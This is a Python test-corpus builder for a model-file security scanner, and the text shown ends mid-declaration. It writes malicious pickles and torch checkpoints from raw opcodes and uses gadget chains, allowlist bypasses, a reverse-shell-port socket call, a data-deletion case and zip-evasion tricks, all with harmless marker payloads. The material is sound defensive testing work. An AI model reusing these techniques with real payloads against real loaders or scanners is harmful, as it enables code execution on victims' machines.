"""The evidence corpus: malicious and benign model files, built by code, never committed.

``build_corpus(root)`` writes every case under ``root`` and returns one ``Case`` per file
(or per Hugging Face / distributed-checkpoint folder). ``SPECS`` lists the same cases
without building anything, so tests can be parametrised at collection time.

Ground rules kept here:

* Nothing is ever unpickled or loaded. Malicious pickles are assembled from opcode bytes,
  or written by ``pickle``/``torch.save``/``joblib.dump``/``numpy.save`` from objects whose
  ``__reduce__`` names the payload: dumping never calls it.
* Every payload is a harmless marker: it would create ``<root>/PWNED-<case name>``. A test
  checks that no marker exists after scanning, which proves nothing ran.
* Malicious cases that are resource bombs may be judged ``error`` instead of flagged:
  their ``expect`` is ``"error-or-flagged"``. Benign cases expect ``"safe"``.

Used by ``tests/scan/test_corpus.py`` and ``benchmarks/scan_vs_anchors.py``.
"""

from __future__ import annotations

import bz2
import copy
import gzip
import io
import lzma
import marshal
import os
import pickle
import pickletools
import random
import shlex
import shutil
import struct
import subprocess
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

__all__ = ["SPECS", "Case", "Spec", "build_corpus"]

FLAGGED = "flagged"
ERROR_OR_FLAGGED = "error-or-flagged"
SAFE = "safe"


@dataclass(frozen=True)
class Case:
    name: str
    """Unique, kebab-case."""
    path: Path
    """A file, or a folder (Hugging Face checkpoint, distributed checkpoint)."""
    malicious: bool
    technique: str
    """What the technique (or the benign kind of file) is."""
    expect: str = FLAGGED
    """Malicious: ``flagged`` or ``error-or-flagged`` (bombs, limits). Benign: ``safe``."""


Builder = Callable[["_Ctx", str], Path]


@dataclass(frozen=True)
class Spec:
    name: str
    malicious: bool
    technique: str
    expect: str
    build: Builder


SPECS: list[Spec] = []


def _register(
    name: str, malicious: bool, technique: str, expect: str
) -> Callable[[Builder], Builder]:
    def deco(fn: Builder) -> Builder:
        if any(s.name == name for s in SPECS):
            raise ValueError(f"duplicate case name {name}")
        SPECS.append(Spec(name, malicious, technique, expect, fn))
        return fn

    return deco


def _mal(name: str, technique: str, expect: str = FLAGGED) -> Callable[[Builder], Builder]:
    return _register(name, True, technique, expect)


def _ben(name: str, technique: str) -> Callable[[Builder], Builder]:
    return _register(name, False, technique, SAFE)


# ---------------------------------------------------------------------------------------
# Payload helpers and a small pickle assembler. Nothing here ever loads a pickle.


class _Ctx:
    """Build state for one corpus: paths, payload markers and shared, lazily built objects."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.mal = root / "malicious"
        self.ben = root / "benign"
        self.scratch = root / "scratch"
        for d in (self.mal, self.ben, self.scratch):
            d.mkdir(parents=True, exist_ok=True)
        self._cache: dict[str, Any] = {}

    def marker(self, name: str) -> Path:
        return self.root / f"PWNED-{name}"

    def cmd(self, name: str) -> str:
        return f"touch {shlex.quote(str(self.marker(name)))}"

    def argv(self, name: str) -> list[str]:
        return ["touch", str(self.marker(name))]

    def pycode(self, name: str) -> str:
        return f"open({str(self.marker(name))!r}, 'w').close()"

    def cached(self, key: str, make: Callable[[], Any]) -> Any:
        if key not in self._cache:
            self._cache[key] = make()
        return self._cache[key]


def _p(proto: int) -> bytes:
    """PROTO opcode (protocols 0 and 1 have none)."""
    return b"\x80" + bytes([proto]) if proto >= 2 else b""


def _s(text: str, proto: int = 2) -> bytes:
    """A text string: UNICODE (proto 0), SHORT_BINUNICODE (4+), else BINUNICODE."""
    if proto == 0:
        if "\n" in text or "\\" in text:
            raise ValueError("protocol-0 strings here must not hold newlines or backslashes")
        return b"V" + text.encode("raw_unicode_escape") + b"\n"
    data = text.encode("utf-8")
    if proto >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def _b(data: bytes) -> bytes:
    """BINBYTES (protocol 3+)."""
    return b"B" + struct.pack("<I", len(data)) + data


def _int(n: int) -> bytes:
    return b"I%d\n" % n


def _g(module: str, name: str) -> bytes:
    """GLOBAL opcode (text, every protocol)."""
    return f"c{module}\n{name}\n".encode()


def _sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL with literal operands (protocol 4+)."""
    return _s(module, 4) + _s(name, 4) + b"\x93"


def _t(*items: bytes) -> bytes:
    """MARK ... TUPLE."""
    return b"(" + b"".join(items) + b"t"


def _lst(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def _dct(*pairs: bytes) -> bytes:
    return b"(" + b"".join(pairs) + b"d"


def _r(fn: bytes, *args: bytes) -> bytes:
    """Call ``fn`` with ``args``: fn, MARK args TUPLE, REDUCE."""
    return fn + _t(*args) + b"R"


def _frame(proto: int, body: bytes) -> bytes:
    return _p(proto) + b"\x95" + struct.pack("<Q", len(body)) + body


STOP = b"."


def _checked(data: bytes) -> bytes:
    """Fail the build if ``data`` is not one well-formed pickle (pickletools never imports)."""
    pickletools.dis(data, out=io.StringIO())
    return data


class _Reduce:
    """Pickles as ``fn(*args)``. Only ever dumped: its payload runs only if someone loads it."""

    def __init__(self, fn: Callable[..., Any], *args: Any) -> None:
        self.fn = fn
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.fn, self.args)


def _evil(ctx: _Ctx, name: str) -> _Reduce:
    return _Reduce(os.system, ctx.cmd(name))


def _inner_pickle(ctx: _Ctx, name: str) -> bytes:
    return _checked(_p(2) + _r(_g("posix", "system"), _s(ctx.cmd(name))) + STOP)


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


# ---------------------------------------------------------------------------------------
# Malicious: raw pickles assembled from opcodes.


def _raw(
    name: str, technique: str, *, ext: str = ".pkl", valid: bool = True
) -> Callable[[Callable[[_Ctx, str], bytes]], Callable[[_Ctx, str], bytes]]:
    """Register a raw-pickle case from a function returning its bytes."""

    def deco(make: Callable[[_Ctx, str], bytes]) -> Callable[[_Ctx, str], bytes]:
        def build(ctx: _Ctx, n: str) -> Path:
            data = make(ctx, n)
            if valid:
                _checked(data)
            return _write(ctx.mal / f"{n}{ext}", data)

        _mal(name, technique)(build)
        return make

    return deco


@_raw("p0-os-system", "protocol 0 GLOBAL os.system + REDUCE")
def _p0_os_system(ctx: _Ctx, n: str) -> bytes:
    return _r(_g("os", "system"), _s(ctx.cmd(n), 0)) + STOP


@_raw("p1-posix-system", "protocol 1 GLOBAL posix.system + BINPUT + REDUCE")
def _p1_posix_system(ctx: _Ctx, n: str) -> bytes:
    return _g("posix", "system") + b"q\x00" + _t(_s(ctx.cmd(n), 1)) + b"R" + STOP


@_raw("p2-subprocess-popen", "protocol 2 subprocess.Popen(argv list)")
def _p2_popen(ctx: _Ctx, n: str) -> bytes:
    argv = [_s(a) for a in ctx.argv(n)]
    return _p(2) + _r(_g("subprocess", "Popen"), _lst(*argv)) + STOP


@_raw("p3-builtins-eval", "protocol 3 builtins.eval of Python source")
def _p3_eval(ctx: _Ctx, n: str) -> bytes:
    return _p(3) + _r(_g("builtins", "eval"), _s(ctx.pycode(n))) + STOP


@_raw("p4-builtins-exec-frame", "protocol 4 FRAME + STACK_GLOBAL builtins.exec")
def _p4_exec(ctx: _Ctx, n: str) -> bytes:
    return _frame(4, _r(_sg("builtins", "exec"), _s(ctx.pycode(n), 4)) + STOP)


@_raw(
    "p5-getattr-import-module-chain",
    "protocol 5 getattr(importlib.import_module('os'), 'system')(cmd)",
)
def _p5_chain(ctx: _Ctx, n: str) -> bytes:
    mod = _r(_sg("importlib", "import_module"), _s("os", 4))
    fn = _r(_sg("builtins", "getattr"), mod, _s("system", 4))
    return _p(5) + fn + _t(_s(ctx.cmd(n), 5)) + b"R" + STOP


@_raw("p2-py2-builtin-eval", "protocol 2 Python-2 name __builtin__.eval (mapped to builtins)")
def _p2_py2_eval(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("__builtin__", "eval"), _s(ctx.pycode(n))) + STOP


@_raw("p0-nt-system", "protocol 0 GLOBAL nt.system (Windows alias of os)")
def _p0_nt(ctx: _Ctx, n: str) -> bytes:
    return _r(_g("nt", "system"), _s(ctx.cmd(n), 0)) + STOP


@_raw("p3-os-popen", "protocol 3 os.popen")
def _p3_popen(ctx: _Ctx, n: str) -> bytes:
    return _p(3) + _r(_g("os", "popen"), _s(ctx.cmd(n))) + STOP


@_raw("p4-subprocess-check-output", "protocol 4 framed subprocess.check_output with MEMOIZE")
def _p4_check_output(ctx: _Ctx, n: str) -> bytes:
    argv = [_s(a, 4) for a in ctx.argv(n)]
    body = _sg("subprocess", "check_output") + b"\x94" + _t(_lst(*argv)) + b"R\x94" + STOP
    return _frame(4, body)


@_raw("importlib-import-module", "importlib.import_module('os') hands a module to the program")
def _importlib(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("importlib", "import_module"), _s("os")) + STOP


@_raw("builtins-import-getattr", "getattr(builtins.__import__('os'), 'system')(cmd)")
def _import_getattr(ctx: _Ctx, n: str) -> bytes:
    fn = _r(_g("builtins", "getattr"), _r(_g("builtins", "__import__"), _s("os")), _s("system"))
    return _p(3) + fn + _t(_s(ctx.cmd(n))) + b"R" + STOP


@_raw("runpy-run-code", "runpy._run_code(source, {}) execs source")
def _runpy(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("runpy", "_run_code"), _s(ctx.pycode(n)), b"}") + STOP


@_raw("pty-spawn", "pty.spawn(argv)")
def _pty(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("pty", "spawn"), _lst(*[_s(a) for a in ctx.argv(n)])) + STOP


@_raw("ctypes-cdll-libc-system", "ctypes.CDLL('libc.so.6') then getattr(lib, 'system')(bytes)")
def _ctypes(ctx: _Ctx, n: str) -> bytes:
    lib = _r(_g("ctypes", "CDLL"), _s("libc.so.6"))
    fn = _r(_g("builtins", "getattr"), lib, _s("system"))
    return _p(3) + fn + _t(_b(ctx.cmd(n).encode())) + b"R" + STOP


@_raw("socket-create-connection", "socket.create_connection to a reverse-shell port")
def _socket(ctx: _Ctx, n: str) -> bytes:
    addr = _t(_s("127.0.0.1"), b"M" + struct.pack("<H", 4444))
    return _p(2) + _r(_g("socket", "create_connection"), addr) + STOP


@_raw("webbrowser-open", "webbrowser.open of a URL")
def _webbrowser(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("webbrowser", "open"), _s(f"file://{ctx.marker(n)}")) + STOP


@_raw("shutil-rmtree", "shutil.rmtree of a checkpoint folder (sabotage)")
def _rmtree(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("shutil", "rmtree"), _s(str(ctx.root / "no-such-victim"))) + STOP


@_raw("operator-attrgetter-reexport", "_operator.attrgetter('os.system')(torch.serialization)")
def _attrgetter(ctx: _Ctx, n: str) -> bytes:
    getter = _r(_g("_operator", "attrgetter"), _s("os.system"))
    fn = getter + _t(_g("torch", "serialization")) + b"R"
    return _p(2) + fn + _t(_s(ctx.cmd(n))) + b"R" + STOP


@_raw("functools-partial", "functools.partial(posix.system, cmd)() - a computed callable")
def _partial(ctx: _Ctx, n: str) -> bytes:
    part = _r(_g("functools", "partial"), _g("posix", "system"), _s(ctx.cmd(n)))
    return _p(2) + part + b")R" + STOP


@_raw("code-interactive-interpreter", "code.InteractiveInterpreter().runsource(source)")
def _code_interp(ctx: _Ctx, n: str) -> bytes:
    interp = _r(_g("code", "InteractiveInterpreter"))
    fn = _r(_g("builtins", "getattr"), interp, _s("runsource"))
    return _p(2) + fn + _t(_s(ctx.pycode(n))) + b"R" + STOP


@_raw("timeit-timeit", "timeit.timeit(stmt, setup=source) runs the setup")
def _timeit(ctx: _Ctx, n: str) -> bytes:
    args = (_s("pass"), _s(ctx.pycode(n)), _g("time", "perf_counter"), b"K\x01")
    return _p(2) + _r(_g("timeit", "timeit"), *args) + STOP


@_raw("pdb-run", "pdb.run(source)")
def _pdb(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("pdb", "run"), _s(ctx.pycode(n))) + STOP


@_raw("cprofile-run", "cProfile.run(source)")
def _cprofile(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("cProfile", "run"), _s(ctx.pycode(n))) + STOP


@_raw("torch-load-nested", "torch.serialization.load(io.BytesIO(<inner malicious pickle>))")
def _torch_load_nested(ctx: _Ctx, n: str) -> bytes:
    inner = _inner_pickle(ctx, n)
    return _p(3) + _r(_g("torch.serialization", "load"), _r(_g("_io", "BytesIO"), _b(inner))) + STOP


@_raw("pickle-loads-nested", "pickle.loads(<inner malicious pickle bytes>)")
def _pickle_loads(ctx: _Ctx, n: str) -> bytes:
    return _p(3) + _r(_g("pickle", "loads"), _b(_inner_pickle(ctx, n))) + STOP


@_raw(
    "numpy-runstring", "numpy.testing._private.utils.runstring(source, {}) (exec gadget in numpy)"
)
def _runstring(ctx: _Ctx, n: str) -> bytes:
    fn = _g("numpy.testing._private.utils", "runstring")
    return _p(2) + _r(fn, _s(ctx.pycode(n)), b"}") + STOP


@_raw(
    "torch-reexport-os-system-p4",
    "protocol 4 dotted name: module torch.serialization, name os.system",
)
def _reexport_system(ctx: _Ctx, n: str) -> bytes:
    return _p(4) + _r(_sg("torch.serialization", "os.system"), _s(ctx.cmd(n), 4)) + STOP


@_raw(
    "torch-reexport-pickle-loads-p4", "protocol 4 dotted name: torch.serialization + pickle.loads"
)
def _reexport_loads(ctx: _Ctx, n: str) -> bytes:
    fn = _sg("torch.serialization", "pickle.loads")
    return _p(4) + _r(fn, _b(_inner_pickle(ctx, n))) + STOP


@_raw(
    "torch-import-dotted-name-gadget",
    "torch._utils._import_dotted_name('os.system') returns a callable",
)
def _dotted_gadget(ctx: _Ctx, n: str) -> bytes:
    fn = _r(_g("torch._utils", "_import_dotted_name"), _s("os.system"))
    return _p(2) + fn + _t(_s(ctx.cmd(n))) + b"R" + STOP


@_raw(
    "torch-fx-reduce-graph-module",
    "torch.fx.graph_module.reduce_graph_module execs its import block",
)
def _fx(ctx: _Ctx, n: str) -> bytes:
    body = _dct(_s("_code"), _s("def forward(self):\n    return None\n"))
    fn = _g("torch.fx.graph_module", "reduce_graph_module")
    return _p(2) + _r(fn, body, _s(ctx.pycode(n) + "\n")) + STOP


@_raw(
    "torch-rebuild-from-type-v2-gadget",
    "allowlisted torch._tensor._rebuild_from_type_v2 calls pathlib.Path.touch",
)
def _rebuild_gadget(ctx: _Ctx, n: str) -> bytes:
    path = _r(_sg("pathlib", "PosixPath"), _s(str(ctx.marker(n)), 4))
    args = (_sg("pathlib", "Path.touch"), _sg("torch", "Tensor"), _t(path), b"}")
    return _p(4) + _r(_sg("torch._tensor", "_rebuild_from_type_v2"), *args) + STOP


@_raw(
    "copyreg-reconstructor-init-gadget",
    "allowlisted copyreg._reconstructor runs logging.FileHandler.__init__(path)",
)
def _reconstructor_init(ctx: _Ctx, n: str) -> bytes:
    cls = _g("logging", "FileHandler")
    return _p(2) + _r(_g("copyreg", "_reconstructor"), cls, cls, _s(str(ctx.marker(n)))) + STOP


@_raw(
    "copyreg-reconstructor-popen", "copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__"
)
def _reconstructor_popen(ctx: _Ctx, n: str) -> bytes:
    cls = _g("subprocess", "Popen")
    argv = _lst(*[_s(a) for a in ctx.argv(n)])
    return _p(2) + _r(_g("copyreg", "_reconstructor"), cls, cls, argv) + STOP


@_raw("stack-global-memo-operands", "STACK_GLOBAL operands fetched from the memo (BINPUT/BINGET)")
def _sg_memo(ctx: _Ctx, n: str) -> bytes:
    body = _s("os", 4) + b"q\x00" + b"0" + _s("system", 4) + b"q\x01" + b"0"
    body += b"h\x00h\x01\x93" + _t(_s(ctx.cmd(n), 4)) + b"R"
    return _p(4) + body + STOP


@_raw(
    "stack-global-computed-operands",
    "STACK_GLOBAL operands computed by allowlisted codecs.encode (rot13)",
)
def _sg_computed(ctx: _Ctx, n: str) -> bytes:
    mod = _r(_sg("_codecs", "encode"), _s("bf", 4), _s("rot13", 4))
    name = _r(_sg("_codecs", "encode"), _s("flfgrz", 4), _s("rot13", 4))
    return _p(4) + mod + name + b"\x93" + _t(_s(ctx.cmd(n), 4)) + b"R" + STOP


@_raw(
    "memo-overwrite",
    "memo slot first holds OrderedDict, is overwritten with posix.system, then called",
    valid=False,  # pickletools.dis refuses a redefined memo key; the unpickler does not
)
def _memo_overwrite(ctx: _Ctx, n: str) -> bytes:
    body = _g("collections", "OrderedDict") + b"q\x00" + b"0"
    body += _g("posix", "system") + b"q\x00" + b"0" + b"h\x00" + _t(_s(ctx.cmd(n))) + b"R"
    return _p(2) + body + STOP


@_raw("inst-opcode", "protocol 0 INST os system (call without REDUCE)")
def _inst(ctx: _Ctx, n: str) -> bytes:
    return b"(" + _s(ctx.cmd(n), 0) + b"ios\nsystem\n" + STOP


@_raw("obj-opcode", "protocol 1 OBJ with GLOBAL posix.system and an argument")
def _obj(ctx: _Ctx, n: str) -> bytes:
    return b"(" + _g("posix", "system") + _s(ctx.cmd(n), 1) + b"o" + STOP


@_raw("newobj-ex-popen", "protocol 4 NEWOBJ_EX subprocess.Popen")
def _newobj_ex(ctx: _Ctx, n: str) -> bytes:
    argv = _lst(*[_s(a, 4) for a in ctx.argv(n)])
    return _p(4) + _sg("subprocess", "Popen") + _t(argv) + b"}\x92" + STOP


@_raw(
    "build-monkeypatch-functional-relu", "BUILD setattr on module torch.nn.functional: relu := gelu"
)
def _build_relu(ctx: _Ctx, n: str) -> bytes:
    state = _t(b"N", _dct(_s("relu"), _g("torch.nn.functional", "gelu")))
    return _p(2) + _g("torch.nn", "functional") + state + b"b" + STOP


@_raw("build-monkeypatch-manual-seed", "BUILD setattr on module torch.random: manual_seed := seed")
def _build_seed(ctx: _Ctx, n: str) -> bytes:
    state = _t(b"N", _dct(_s("manual_seed"), _g("torch.random", "seed")))
    return _p(2) + _g("torch", "random") + state + b"b" + STOP


@_raw("ext1-extension-code", "EXT1 copyreg extension code instead of a GLOBAL")
def _ext1(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + b"\x82\x01" + _t(_s(ctx.cmd(n))) + b"R" + STOP


@_raw("ext2-extension-code", "EXT2 copyreg extension code instead of a GLOBAL")
def _ext2(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + b"\x83" + struct.pack("<H", 0x1234) + _t(_s(ctx.cmd(n))) + b"R" + STOP


@_raw("vars-getitem-chain", "_operator.getitem(builtins.vars(torch.os), 'system')(cmd)")
def _vars_chain(ctx: _Ctx, n: str) -> bytes:
    fn = _r(_g("_operator", "getitem"), _r(_g("builtins", "vars"), _g("torch", "os")), _s("system"))
    return _p(2) + fn + _t(_s(ctx.cmd(n))) + b"R" + STOP


@_raw("marshal-function", "types.FunctionType(marshal.loads(code), {})()")
def _marshal_fn(ctx: _Ctx, n: str) -> bytes:
    code = marshal.dumps(compile(ctx.pycode(n), "<corpus>", "exec"))  # compiled, never run
    fn = _r(_g("types", "FunctionType"), _r(_g("marshal", "loads"), _b(code)), b"}")
    return _p(3) + fn + b")R" + STOP


@_raw("pandas-read-pickle-gadget", "pandas.io.pickle.read_pickle of another (malicious) file")
def _pandas_gadget(ctx: _Ctx, n: str) -> bytes:
    target = _write(ctx.scratch / f"{n}-target.pkl", _inner_pickle(ctx, n))
    return _p(2) + _r(_g("pandas.io.pickle", "read_pickle"), _s(str(target))) + STOP


@_raw("numpy-load-gadget", "numpy.load(path, None, True) of another (malicious) file")
def _numpy_gadget(ctx: _Ctx, n: str) -> bytes:
    target = _write(ctx.scratch / f"{n}-target.pkl", _inner_pickle(ctx, n))
    return _p(2) + _r(_g("numpy", "load"), _s(str(target)), b"N", b"\x88") + STOP


@_raw("joblib-load-gadget", "joblib.load of another (malicious) file")
def _joblib_gadget(ctx: _Ctx, n: str) -> bytes:
    target = _write(ctx.scratch / f"{n}-target.pkl", _inner_pickle(ctx, n))
    return _p(2) + _r(_g("joblib", "load"), _s(str(target))) + STOP


@_raw(
    "stdlib-osx-support-read-output", "stdlib gadget _osx_support._read_output runs a shell command"
)
def _osx(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("_osx_support", "_read_output"), _s(ctx.cmd(n))) + STOP


@_raw("stdlib-imaplib-imap4-stream", "stdlib gadget imaplib.IMAP4_stream(command) spawns a shell")
def _imaplib(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("imaplib", "IMAP4_stream"), _s(ctx.cmd(n))) + STOP


@_raw(
    "stdlib-logging-dictconfig",
    "stdlib gadget logging.config.dictConfig with a '()' factory subprocess.Popen",
)
def _dictconfig(ctx: _Ctx, n: str) -> bytes:
    handler = _dct(
        _s("()"), _s("subprocess.Popen"), _s("args"), _lst(*[_s(a) for a in ctx.argv(n)])
    )
    cfg = _dct(_s("version"), b"K\x01", _s("handlers"), _dct(_s("h"), handler))
    return _p(2) + _r(_g("logging.config", "dictConfig"), cfg) + STOP


@_raw("stdlib-pkgutil-resolve-name", "pkgutil.resolve_name('os:system') returns a callable")
def _pkgutil(ctx: _Ctx, n: str) -> bytes:
    fn = _r(_g("pkgutil", "resolve_name"), _s("os:system"))
    return _p(2) + fn + _t(_s(ctx.cmd(n))) + b"R" + STOP


@_raw("stdlib-uuid-get-command-stdout", "stdlib gadget uuid._get_command_stdout runs a program")
def _uuid(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("uuid", "_get_command_stdout"), *[_s(a) for a in ctx.argv(n)]) + STOP


@_raw("stdlib-pydoc-pipepager", "stdlib gadget pydoc.pipepager(text, cmd) runs a shell command")
def _pydoc(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("pydoc", "pipepager"), _s("x"), _s(ctx.cmd(n))) + STOP


@_raw(
    "broken-pickle-no-stop",
    "nullifAI: payload then garbage, no STOP (loader runs it, then fails)",
    valid=False,
)
def _broken(ctx: _Ctx, n: str) -> bytes:
    return _p(2) + _r(_g("posix", "system"), _s(ctx.cmd(n))) + b"\xff\xfe garbage \x00\x01"


@_raw("payload-stop-junk", "valid malicious pickle, STOP, then junk bytes", valid=False)
def _stop_junk(ctx: _Ctx, n: str) -> bytes:
    return _inner_pickle(ctx, n) + b"\x00\x13\x37 trailing junk " * 8


@_raw(
    "benign-then-malicious-pickle",
    "benign pickle followed by a second, malicious pickle",
    valid=False,
)
def _two(ctx: _Ctx, n: str) -> bytes:
    return pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + _inner_pickle(ctx, n)


@_raw("payload-then-huge-binbytes8", "payload then BINBYTES8 claiming 2**60 bytes", valid=False)
def _huge_len(ctx: _Ctx, n: str) -> bytes:
    return (
        _p(4) + _r(_sg("posix", "system"), _s(ctx.cmd(n), 4)) + b"\x8e" + struct.pack("<Q", 1 << 60)
    )


@_raw("raw-pickle-named-pt", "raw (non-zip) pickle named model.pt", ext=".pt")
def _named_pt(ctx: _Ctx, n: str) -> bytes:
    return _inner_pickle(ctx, n)


@_mal("raw-pickle-named-safetensors", "raw pickle renamed model.safetensors")
def _named_st(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.mal / n / "model.safetensors", _inner_pickle(ctx, n))


# ---------------------------------------------------------------------------------------
# Shared objects for the torch-based cases (built lazily, once per corpus).


def _torch() -> Any:
    import torch

    return torch


def _small_state_dict(ctx: _Ctx) -> dict[str, Any]:
    def make() -> dict[str, Any]:
        torch = _torch()
        torch.manual_seed(0)
        return torch.nn.Sequential(
            torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2)
        ).state_dict()

    return ctx.cached("small_sd", make)  # type: ignore[no-any-return]


def _torch_bytes(obj: Any, **kw: Any) -> bytes:
    buf = io.BytesIO()
    _torch().save(obj, buf, **kw)
    return buf.getvalue()


def _torch_evil_bytes(ctx: _Ctx, n: str, **kw: Any) -> bytes:
    return _torch_bytes({"state_dict": _small_state_dict(ctx), "meta": _evil(ctx, n)}, **kw)


def _central_entries(data: bytes) -> dict[str, int]:
    """Offsets of the central directory headers, by name."""
    zf = zipfile.ZipFile(io.BytesIO(data))
    pos = zf.start_dir
    out: dict[str, int] = {}
    while data[pos : pos + 4] == b"PK\x01\x02":
        nlen, elen, clen = struct.unpack("<HHH", data[pos + 28 : pos + 34])
        out[data[pos + 46 : pos + 46 + nlen].decode()] = pos
        pos += 46 + nlen + elen + clen
    return out


def _rezip(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of some cases
        with zipfile.ZipFile(buf, "w", method) as zf:
            for name, data in entries:
                zf.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data, method)
    return buf.getvalue()


def _zip_entries(data: bytes) -> list[tuple[str, bytes]]:
    zf = zipfile.ZipFile(io.BytesIO(data))
    return [(i.filename, zf.read(i)) for i in zf.infolist()]


# ---------------------------------------------------------------------------------------
# Malicious: torch formats.


@_mal(
    "torch-zip-reduce",
    "torch.save zip of a checkpoint holding an object with a malicious __reduce__",
)
def _torch_zip(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.mal / f"{n}.pt", _torch_evil_bytes(ctx, n))


@_mal("torch-zip-proto4-reduce", "torch.save(pickle_protocol=4) zip with a malicious __reduce__")
def _torch_zip4(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.mal / f"{n}.pt", _torch_evil_bytes(ctx, n, pickle_protocol=4))


@_mal("torch-zip-bad-crc", "torch zip whose data.pkl CRC is wrong (zipfile refuses, torch loads)")
def _torch_bad_crc(ctx: _Ctx, n: str) -> Path:
    data = bytearray(_torch_evil_bytes(ctx, n))
    zf = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = next(i for i in zf.infolist() if i.filename.endswith("data.pkl"))
    bad = struct.pack("<I", (info.CRC ^ 0xDEADBEEF) & 0xFFFFFFFF)
    data[info.header_offset + 14 : info.header_offset + 18] = bad
    cen = _central_entries(bytes(data))[info.filename]
    data[cen + 16 : cen + 20] = bad
    return _write(ctx.mal / f"{n}.pt", bytes(data))


@_mal(
    "torch-zip-name-mismatch",
    "torch zip: local header names data.pkl differently from the central directory",
)
def _torch_name_mismatch(ctx: _Ctx, n: str) -> Path:
    data = bytearray(_torch_evil_bytes(ctx, n))
    zf = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = next(i for i in zf.infolist() if i.filename.endswith("data.pkl"))
    start = info.header_offset + 30
    local = bytes(data[start : start + len(info.filename)])
    assert local == info.filename.encode()
    data[start : start + len(local)] = local[:-8] + b"note.txt"
    return _write(ctx.mal / f"{n}.pt", bytes(data))


@_mal("torch-zip-second-pkl", "benign torch zip with a malicious extra archive/extra.pkl member")
def _torch_second_pkl(ctx: _Ctx, n: str) -> Path:
    entries = _zip_entries(_torch_bytes(_small_state_dict(ctx)))
    entries.append(("archive/extra.pkl", _inner_pickle(ctx, n)))
    return _write(ctx.mal / f"{n}.pt", _rezip(entries))


@_mal(
    "torch-zip-duplicate-data-pkl",
    "torch zip with two archive/data.pkl members, the second malicious",
)
def _torch_dup(ctx: _Ctx, n: str) -> Path:
    entries = _zip_entries(_torch_bytes(_small_state_dict(ctx)))
    entries.append(("archive/data.pkl", _inner_pickle(ctx, n)))
    return _write(ctx.mal / f"{n}.pt", _rezip(entries))


@_mal(
    "torch-zip-first-record-prefix",
    "torch zip whose first entry is evil/data.pkl; torch reads that record",
)
def _torch_prefix(ctx: _Ctx, n: str) -> Path:
    entries = _zip_entries(_torch_bytes(_small_state_dict(ctx)))
    return _write(ctx.mal / f"{n}.pt", _rezip([("evil/data.pkl", _inner_pickle(ctx, n)), *entries]))


@_mal("torch-zip-deflated", "torch zip re-packed with deflate-compressed members")
def _torch_deflated(ctx: _Ctx, n: str) -> Path:
    entries = _zip_entries(_torch_evil_bytes(ctx, n))
    return _write(ctx.mal / f"{n}.pt", _rezip(entries, zipfile.ZIP_DEFLATED))


@_mal("torch-legacy-raw", "legacy non-zip torch.save (_use_new_zipfile_serialization=False)")
def _torch_legacy(ctx: _Ctx, n: str) -> Path:
    data = _torch_evil_bytes(ctx, n, _use_new_zipfile_serialization=False)
    return _write(ctx.mal / f"{n}.pt", data)


_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
_SYS_INFO = {
    "protocol_version": 1001,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 4},
}


@_mal(
    "torch-legacy-raw-storage-keys",
    "legacy raw torch stream whose 5th pickle (storage keys) is malicious",
)
def _torch_legacy_keys(ctx: _Ctx, n: str) -> Path:
    parts = [
        pickle.dumps(_LEGACY_MAGIC, protocol=2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps(_SYS_INFO, protocol=2),
        pickle.dumps({"epoch": 1}, protocol=2),
        _inner_pickle(ctx, n),
    ]
    return _write(ctx.mal / f"{n}.pt", b"".join(parts))


def _legacy_tar(pickle_member: bytes, storage_views: bytes) -> bytes:
    storages = pickle.dumps(1, protocol=2)
    storages += _checked(_p(2) + _t(_s("0"), _s("cpu"), _g("torch", "FloatStorage")) + STOP)
    storages += struct.pack("<q", 2) + struct.pack("<2f", 1.0, 2.0) + storage_views
    members = {
        "sys_info": pickle.dumps(_SYS_INFO, protocol=2),
        "pickle": pickle_member,
        "storages": storages,
        "tensors": pickle.dumps(0, protocol=2),
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_577_836_800
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _legacy_benign_pickle() -> bytes:
    # {'weight': persistent_id('0')}
    return _checked(_p(2) + b"}" + _s("weight") + _s("0") + b"Qs" + STOP)


@_mal(
    "torch-legacy-tar-pickle",
